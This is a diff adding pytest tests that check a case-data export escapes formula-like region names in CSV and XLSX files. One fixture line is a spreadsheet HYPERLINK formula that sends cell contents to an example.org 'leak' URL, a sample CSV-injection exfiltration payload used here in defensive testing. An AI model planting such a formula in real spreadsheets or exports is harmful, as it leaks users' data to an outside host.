@@ -135,3 +135,39 @@ def test_case_level_xlsx_holds_dates_as_date_cells(client, researcher):
     header = [cell.value for cell in sheet[1]]
     cell = sheet.cell(row=2, column=header.index("referred_on") + 1)
     assert cell.is_date and isinstance(cell.value, datetime.datetime)
+
+
+FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Klik")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_that_looks_like_a_formula_arrives_as_text(client, researcher, start):
+    from ekc.models import Region
+
+    Region.objects.filter(name="Overijssel").update(name=start + FORMULA[1:])
+    client.force_login(researcher)
+    rows = list(
+        csv.DictReader(
+            io.StringIO(client.get(url("cases", "csv")).content.decode("utf-8-sig"), newline="")
+        )
+    )
+    regions = {row["region"] for row in rows}
+    assert "'" + start + FORMULA[1:] in regions
+    assert not any(region.startswith(("=", "+", "-", "@", "\t", "\r")) for region in regions)
+
+    book = load_workbook(io.BytesIO(client.get(url("cases", "xlsx")).content))
+    sheet = book.active
+    header = [cell.value for cell in sheet[1]]
+    cells = [row[header.index("region")] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.data_type for cell in cells} == {"s"}
+    # (XML turns a carriage return into a newline.)
+    assert "'" + start + FORMULA[1:] in {cell.value.replace("\n", "\r") for cell in cells}
+
+
+def test_numbers_and_plain_text_stay_as_they_are():
+    from ekc.spreadsheets import neutral_text
+
+    assert neutral_text(-3) == -3
+    assert neutral_text(2.5) == 2.5
+    assert neutral_text(None) is None
+    assert neutral_text("Noord-Holland") == "Noord-Holland"
